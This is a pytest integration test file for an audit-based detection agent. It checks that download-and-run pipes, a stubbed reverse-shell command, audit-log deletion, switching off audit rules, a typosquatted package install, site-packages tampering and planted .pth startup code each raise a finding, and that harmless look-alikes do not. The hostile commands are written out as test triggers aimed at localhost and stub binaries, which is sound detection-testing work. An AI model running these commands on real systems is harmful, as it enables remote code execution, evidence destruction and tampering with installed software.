"""Detections, live: real processes under audit fire them, and their likes do not."""

from __future__ import annotations

import http.server
import json
import shutil
import subprocess
import threading
from collections.abc import Callable, Iterator
from datetime import datetime, timedelta, timezone
from pathlib import Path

import pytest
from audit_lab import RunningAgent, become, open_folders, run_as, running_agent, wait_until
from wheels import make_wheel

pytestmark = [pytest.mark.kernel, pytest.mark.timeout(180)]

AUID = 61099
OWN_RULE = """title: An own rule of every kind of condition
id: 11111111-2222-4333-8444-555555555555
name: own_rule
logsource: {product: linux, category: process_creation}
detection:
  selection:
    Image|endswith: /env
    CommandLine|contains|all: [MARK, '=live']
    ParentImage|endswith: [/dash, /sh]
  filter: {CommandLine|re: 'quiet$'}
  condition: selection and not filter
level: critical
"""


class Lab:
    """A person, a shell, an environment, a server of wheels, and what the agent noticed."""

    def __init__(self, agent: RunningAgent, home: Path, server: str) -> None:
        self.agent, self.home, self.server = agent, home, server
        self.pip = str(home / "env" / "bin" / "pip")

    def run(self, *argv: str, uid: int | None = None) -> None:
        """As the person; whether it succeeds is not checked."""
        run_as(AUID, argv, cwd=self.home, uid=uid)

    def shell(self, text: str) -> None:
        """Lines typed at a prompt: each command is a child of the shell, and no argument holds the line."""
        script = self.home / "typed.sh"
        script.write_text(text + "\n")
        self.run("/bin/sh", str(script))

    def noticed(self) -> list[dict[str, object]]:
        """`envtrail findings --json`."""
        return [json.loads(line) for line in self.agent.ask("findings", "--json", "--all").stdout.splitlines()]

    def install(self, *words: str) -> None:
        self.run(self.pip, "install", "-q", "--no-deps", *words)


@pytest.fixture(scope="module")
def lab(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Lab]:
    folder = tmp_path_factory.mktemp("detections")
    open_folders(folder)
    home = folder / "home"
    home.mkdir()
    subprocess.run(["/usr/bin/python3", "-m", "venv", str(home / "env")], check=True)
    for name in ("leaf", "reqeusts", "quiet-thing"):
        make_wheel(home / "wheels", name, "1.0")
    shutil.copy("/bin/true", home / "auditctl")
    shutil.copy("/bin/sh", home / "aider")
    subprocess.run(["chown", "-R", f"{AUID}:{AUID}", str(home)], check=True)
    (folder / "sigma").mkdir()
    (folder / "sigma" / "own.yml").write_text(OWN_RULE)
    (folder / "sigma" / "bad.yml").write_text("title: bad\nlogsource: {product: linux}\ndetection: {sel: {a: 1}}\n")

    class Quiet(http.server.SimpleHTTPRequestHandler):
        def __init__(self, *args: object, **words: object) -> None:
            super().__init__(*args, directory=str(home / "wheels"), **words)  # type: ignore[arg-type]

        def log_message(self, *_: object) -> None:
            pass

    server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Quiet)
    threading.Thread(target=server.serve_forever, daemon=True).start()
    variables = {
        "ENVTRAIL_DETECT_PATH": str(folder / "sigma"),
        "ENVTRAIL_POLICY_INTERVAL_S": "1",
        # Everything is off hours, also over midnight.
        "ENVTRAIL_OFFICE_HOLIDAYS": ":".join(str(datetime.now(tz=timezone.utc).date() + timedelta(days=at)) for at in (-1, 0, 1)),
    }
    try:
        with running_agent(folder, AUID, roots=[home], **variables) as agent:
            wait_until(lambda: str(home) in agent.ask("env", "list").stdout, "the environment to be known")
            yield Lab(agent, home, f"http://127.0.0.1:{server.server_port}")
    finally:
        server.shutdown()
        server.server_close()


def _twice_logged_in() -> None:
    become(AUID + 1, uid=0)()
    become(AUID)()


FIRED: dict[str, Callable[[Lab], object]] = {
    "jupyter_on_all_addresses": lambda lab: lab.run("/usr/bin/python3", "-c", "pass", "jupyter", "--ip=0.0.0.0"),
    "download_into_interpreter": lambda lab: lab.run("/bin/sh", "-c", "curl -s http://127.0.0.1:9/x | sh"),
    "download_piped": lambda lab: lab.shell("curl -s http://127.0.0.1:9/x | python3"),
    "python_opens_a_shell": lambda lab: lab.run("/usr/bin/python3", "-c", "'import socket, pty; connect; pty.spawn'"),
    "log_deleted": lambda lab: lab.run("/usr/bin/rm", "-f", "/var/log/audit/no-such-file-of-a-test"),
    "audit_switched_off": lambda lab: lab.run(str(lab.home / "auditctl"), "-e", "0"),
    "rules_removed": lambda lab: lab.run(str(lab.home / "auditctl"), "-d"),
    "loginuid_changed": lambda lab: subprocess.run(["/bin/true"], preexec_fn=_twice_logged_in, check=True),
    "mass_download": lambda lab: lab.shell("for i in $(seq 50); do curl -s -o /dev/null http://127.0.0.1:9/$i; done"),
    "own_rule": lambda lab: lab.shell("/usr/bin/env MARK=live true\ntrue"),
    "name_like_a_popular_project": lambda lab: lab.install("--no-index", f"--find-links={lab.home / 'wheels'}", "reqeusts"),
    "direct_reference": lambda lab: lab.install(f"{lab.server}/leaf-1.0-py3-none-any.whl"),
    "unprotected_index": lambda lab: lab.install(
        "--trusted-host=x", "--no-index", f"--find-links={lab.home / 'wheels'}", "--force-reinstall", "leaf"
    ),
    "break_system_packages": lambda lab: lab.install(
        "--break-system-packages", "--no-index", f"--find-links={lab.home / 'wheels'}", "--force-reinstall", "leaf"
    ),
    "change_outside_office_hours": lambda lab: lab.install(
        "--no-index", f"--find-links={lab.home / 'wheels'}", "--force-reinstall", "quiet-thing"
    ),
    "first_use_of_source": lambda lab: lab.install("--force-reinstall", f"{lab.server}/quiet_thing-1.0-py3-none-any.whl"),
    "many_failed_installs": lambda lab: [lab.install("--no-index", f"no-such-thing-{at}") for at in range(5)],
    "agent_without_consent": lambda lab: lab.run(
        str(lab.home / "aider"),
        "-c",
        f"{lab.pip} install -q --no-deps --no-index --find-links={lab.home / 'wheels'} --force-reinstall leaf; true",
    ),
    "tampering": lambda lab: lab.shell(f"echo x > {_site(lab)}/leaf.py"),
    "startup_code_planted": lambda lab: lab.shell(f"echo 'import leaf' > {_site(lab)}/zz.pth"),
    "root_changes_shared_environment": lambda lab: None,
    "gap_in_the_trail": lambda lab: None,
}
NOT_LIVE = {
    "root_changes_shared_environment": "root's change of a conda or system environment: tests/unit/detect/test_pack.py",
    "gap_in_the_trail": "a full disk, live: tests/integration/auditd; the rule: tests/unit/detect/test_pack.py",
}
LIKE: list[Callable[[Lab], object]] = [
    lambda lab: lab.run("/usr/bin/python3", "-c", "pass", "jupyter", "--ip=127.0.0.1"),
    lambda lab: lab.run("/bin/sh", "-c", "curl -s -o /dev/null http://127.0.0.1:9/x"),
    lambda lab: lab.shell("curl -s -o /dev/null http://127.0.0.1:9/x; python3 -c pass"),
    lambda lab: lab.run("/usr/bin/python3", "-c", "'import socket; connect'"),
    lambda lab: lab.run("/usr/bin/rm", "-f", "/tmp/no-such-file-of-a-test"),
    lambda lab: lab.run(str(lab.home / "auditctl"), "-s"),
    lambda lab: lab.shell("/usr/bin/env MARK=live quiet\ntrue"),
    lambda lab: lab.run("/usr/bin/env", "MARK=live", "true"),
]


def _site(lab: Lab) -> Path:
    return next((lab.home / "env" / "lib").glob("python3*/site-packages"))


def test_what_is_like_it_and_harmless_fires_nothing(lab: Lab) -> None:
    before = len(lab.noticed())
    for harmless in LIKE:
        harmless(lab)
    # Something that is noticed for certain comes after: by then the harmless have been evaluated too.
    lab.shell("/usr/bin/env MARK=live after\ntrue")
    wait_until(lambda: any(item["detection"] == "own_rule" for item in lab.noticed()), "the last one")
    assert [item["detection"] for item in lab.noticed() if item["source"] == "sigma"] == ["own_rule"]
    assert len(lab.noticed()) == before + 1


@pytest.mark.parametrize("name", sorted(set(FIRED) - set(NOT_LIVE)))
def test_it_is_noticed(lab: Lab, name: str) -> None:
    before = {item["id"] for item in lab.noticed()}

    def new() -> list[dict[str, object]]:
        return [item for item in lab.noticed() if item["detection"] == name and item["id"] not in before]

    FIRED[name](lab)
    found = wait_until(new, name)
    assert isinstance(found, list)
    assert {item["status"] for item in found} == {"open"}
    assert {item["host"] for item in found} == {"testhost"}


def test_every_detection_is_tried_live_or_says_where_instead() -> None:
    from envtrail.detect.detection import PACK
    from envtrail.detect.load import load_detections

    loaded = load_detections([PACK])
    counted = {name for item in loaded.detections if item.correlation for name in item.correlation.rules}
    assert {item.id for item in loaded.detections} - counted | {"own_rule"} == set(FIRED)
    assert set(NOT_LIVE) < set(FIRED)


def test_a_rule_at_fault_is_reported_and_the_others_are_run(lab: Lab) -> None:
    reported = [item for item in lab.noticed() if item["detection"] == "detection-refused"]
    assert len(reported) == 1
    assert "bad.yml" in str(reported[0]["reason"])


def test_history_says_the_same_when_it_is_hunted(lab: Lab) -> None:
    live = {item["id"] for item in lab.noticed() if item["detection"] in {"log_deleted", "download_piped", "own_rule"}}
    hunted = set()
    for rule in ("log_deleted", "download_piped", str(Path(lab.agent.environment["ENVTRAIL_DETECT_PATH"]) / "own.yml")):
        hunted |= {json.loads(line)["id"] for line in lab.agent.ask("hunt", rule, "--since", "1h", "--json").stdout.splitlines()}
    assert hunted == live
    assert len(live) >= 3
